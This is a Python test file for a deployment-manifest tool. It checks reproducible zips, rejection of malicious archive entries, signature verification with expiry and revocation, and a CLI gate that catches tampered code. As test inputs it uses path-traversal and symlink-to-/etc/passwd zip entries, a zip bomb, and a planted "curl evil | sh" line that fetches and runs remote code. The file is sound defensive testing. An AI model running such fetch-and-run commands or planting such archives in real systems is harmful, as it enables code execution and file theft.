"""Signed deployment manifests: reproducible zips, zip hygiene, DSSE signing and the CI gate."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import json
import os
import shutil
import stat
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from typer.testing import CliRunner

from faasguard.cli import app as cli
from faasguard.cli.manifest import load_apps
from faasguard.errors import UsageError
from faasguard.manifest import signing
from faasguard.manifest.build import build_manifest
from faasguard.manifest.zips import digest_bytes, reproducible_zip, zip_problems

EXAMPLE = Path(__file__).parents[2] / "examples" / "shop"
NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)


def _zip(*entries: tuple[str, bytes], symlink: str | None = None) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def test_reproducible_zip_ignores_timestamps_modes_and_order(tmp_path: Path) -> None:
    one, two = tmp_path / "one", tmp_path / "two"
    for root in (one, two):
        (root / "pkg").mkdir(parents=True)
        (root / "app.py").write_text("def handler(e, c): return 1\n")
        (root / "pkg" / "mod.py").write_text("X = 1\n")
        (root / "pkg" / "__pycache__").mkdir()
        (root / "pkg" / "__pycache__" / "mod.cpython-311.pyc").write_bytes(os.urandom(16))
    os.utime(two / "app.py", (1_000_000_000, 1_000_000_000))
    first, second = reproducible_zip(one), reproducible_zip(two)
    assert first == second
    with zipfile.ZipFile(BytesIO(first)) as zf:
        assert zf.namelist() == ["app.py", "pkg/mod.py"]
        assert {info.date_time for info in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    digest = digest_bytes(first)
    assert digest.code_sha256 == base64.b64encode(hashlib.sha256(first).digest()).decode()


def test_reproducible_zip_refuses_a_symlink(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("x = 1\n")
    (tmp_path / "leak").symlink_to("/etc/passwd")
    with pytest.raises(Exception, match="symbolic link"):
        reproducible_zip(tmp_path)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (_zip(("../../etc/cron.d/x", b"x")), "climbs out"),
        (_zip(("/etc/passwd", b"x")), "absolute path"),
        (_zip(("C:\\win.ini", b"x")), "Windows path"),
        (_zip(("app.py", b"x"), symlink="link"), "symbolic link"),
        (_zip(("bomb.bin", b"\0" * (8 * 1024 * 1024))), "zip bomb"),
        (b"not a zip", "not a valid zip"),
    ],
)
def test_zip_hygiene_names_each_problem(data: bytes, expected: str) -> None:
    problems = zip_problems(data)
    assert len(problems) == 1
    assert expected in problems[0]


def test_clean_zip_has_no_hygiene_problem() -> None:
    assert zip_problems(_zip(("app.py", b"print(1)\n"), ("lib/a.py", b"a = 2\n"))) == []


def _keys(tmp_path: Path, name: str) -> tuple[Path, Path]:
    private, public = tmp_path / f"{name}.pem", tmp_path / f"{name}.pub"
    signing.generate_key(private, public)
    return private, public


DOCUMENT = {
    "functions": [{"name": "f", "artifact": {"file": "f.zip", "sha256": "ab" * 32}, "config": {}}],
    "layers": [],
}


def test_sign_then_verify_gives_the_in_toto_statement(tmp_path: Path) -> None:
    private, public = _keys(tmp_path, "ci")
    envelope = signing.sign(DOCUMENT, signing.load_signer(private, None), NOW + dt.timedelta(1))
    assert envelope["payloadType"] == "application/vnd.in-toto+json"
    statement = signing.verify(envelope, signing.load_trust([public]), NOW)
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    assert statement["subject"] == [{"name": "f.zip", "digest": {"sha256": "ab" * 32}}]
    assert statement["predicate"]["expires"] == "2026-06-02T00:00:00Z"


def _reasons(envelope: object, trust: signing.Trust, now: dt.datetime = NOW) -> list[str]:
    with pytest.raises(signing.ManifestInvalidError) as failed:
        signing.verify(envelope, trust, now)
    return failed.value.reasons


def test_verify_rejects_tampering_unknown_keys_expiry_and_revocation(tmp_path: Path) -> None:
    private, public = _keys(tmp_path, "ci")
    _, other = _keys(tmp_path, "other")
    envelope = signing.sign(DOCUMENT, signing.load_signer(private, None), NOW + dt.timedelta(1))
    trust = signing.load_trust([public])
    tampered = dict(envelope)
    payload = json.loads(base64.b64decode(envelope["payload"]))
    payload["subject"][0]["digest"]["sha256"] = "cd" * 32
    tampered["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    assert any("no valid signature" in r for r in _reasons(tampered, trust))
    assert any("unknown key" in r for r in _reasons(envelope, signing.load_trust([other])))
    assert _reasons(envelope, trust, NOW + dt.timedelta(days=2)) == [
        "the manifest expired 2026-06-02T00:00:00Z"
    ]
    keyid = trust.keys[0].key.keyid
    pem = public.read_text()
    trust_file = tmp_path / "trust.json"
    trust_file.write_text(
        json.dumps({"keys": [{"name": "ci", "publicKey": pem}], "revoked": [keyid]})
    )
    assert any("revoked key ci" in r for r in _reasons(envelope, signing.load_trust([trust_file])))
    trust_file.write_text(
        json.dumps({"keys": [{"name": "ci", "publicKey": pem, "expires": "2026-01-01T00:00:00Z"}]})
    )
    assert any(
        "expired 2026-01-01" in r for r in _reasons(envelope, signing.load_trust([trust_file]))
    )


def test_signing_key_from_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    private, public = _keys(tmp_path, "ci")
    monkeypatch.setenv("FAASGUARD_SIGNING_KEY", private.read_text())
    envelope = signing.sign(DOCUMENT, signing.load_signer(None, None), NOW + dt.timedelta(1))
    assert signing.verify(envelope, signing.load_trust([public]), NOW)["predicate"]
    monkeypatch.delenv("FAASGUARD_SIGNING_KEY")
    with pytest.raises(UsageError, match="FAASGUARD_SIGNING_KEY"):
        signing.load_signer(None, None)


def test_cli_gate_build_sign_verify_and_tamper(tmp_path: Path) -> None:
    app = tmp_path / "shop"
    shutil.copytree(EXAMPLE, app)
    artifacts = tmp_path / "artifacts"
    artifacts.mkdir()
    runner = CliRunner()
    private, public = tmp_path / "k.pem", tmp_path / "k.pub"
    assert (
        runner.invoke(
            cli, ["manifest", "keygen", "--private", str(private), "--public", str(public)]
        ).exit_code
        == 0
    )
    manifest, signed = tmp_path / "m.json", tmp_path / "m.signed.json"
    built = runner.invoke(
        cli,
        [
            "manifest",
            "build",
            str(app / "template.yaml"),
            "-o",
            str(manifest),
            "--artifacts-dir",
            str(artifacts),
        ],
    )
    assert built.exit_code == 0, built.output
    document = json.loads(manifest.read_text())
    names = sorted(f["name"] for f in document["functions"])
    assert names == [
        "CreateOrderFunction",
        "NightlyReportFunction",
        "OrderWorkerFunction",
        "ProcessUploadFunction",
        "SignupHookFunction",
    ]
    orders = next(f for f in document["functions"] if f["name"] == "CreateOrderFunction")
    assert orders["config"]["environment"]["ORDERS_TABLE"] == "unknown"  # !Ref: known once deployed
    assert sorted(orders["artifact"]["files"]) == ["app.py", "requirements.txt"]
    assert (
        runner.invoke(
            cli, ["manifest", "sign", str(manifest), "--key", str(private), "-o", str(signed)]
        ).exit_code
        == 0
    )
    gate = ["manifest", "verify", str(signed), "--trusted-key", str(public)]
    ok = runner.invoke(cli, [*gate, "--artifacts-dir", str(artifacts)])
    assert ok.exit_code == 0, ok.output
    assert "5 artifact(s) match" in ok.output
    assert runner.invoke(cli, [*gate, "--app", str(app / "template.yaml")]).exit_code == 0
    (app / "src" / "orders" / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    tampered = runner.invoke(cli, [*gate, "--app", str(app / "template.yaml")])
    assert tampered.exit_code == 1
    assert (
        "function CreateOrderFunction: artifact CreateOrderFunction.zip has SHA-256"
        in tampered.output
    )
    other_private, other_public = tmp_path / "o.pem", tmp_path / "o.pub"
    signing.generate_key(other_private, other_public)
    wrong = runner.invoke(
        cli,
        [
            "manifest",
            "verify",
            str(signed),
            "--trusted-key",
            str(other_public),
            "--artifacts-dir",
            str(artifacts),
        ],
    )
    assert wrong.exit_code == 1
    assert "no valid signature" in wrong.output
    usage = runner.invoke(cli, [*gate])
    assert usage.exit_code == 2


def test_sam_build_output_is_pinned_instead_of_the_source_directory(tmp_path: Path) -> None:
    app = tmp_path / "shop"
    shutil.copytree(EXAMPLE, app)
    built_dir = app / ".aws-sam" / "build" / "CreateOrderFunction"
    (built_dir / "vendored").mkdir(parents=True)
    (built_dir / "app.py").write_text("def handler(e, c): return 1\n")
    (built_dir / "vendored" / "lib.py").write_text("X = 1\n")
    built = build_manifest(load_apps([app / "template.yaml"]))
    orders = next(f for f in built.document["functions"] if f["name"] == "CreateOrderFunction")
    assert orders["artifact"]["source"].endswith(
        ".aws-sam/build/CreateOrderFunction (reproducible zip)"
    )
    assert sorted(orders["artifact"]["files"]) == ["app.py", "vendored/lib.py"]
    assert built.artifacts["CreateOrderFunction.zip"] == reproducible_zip(built_dir)
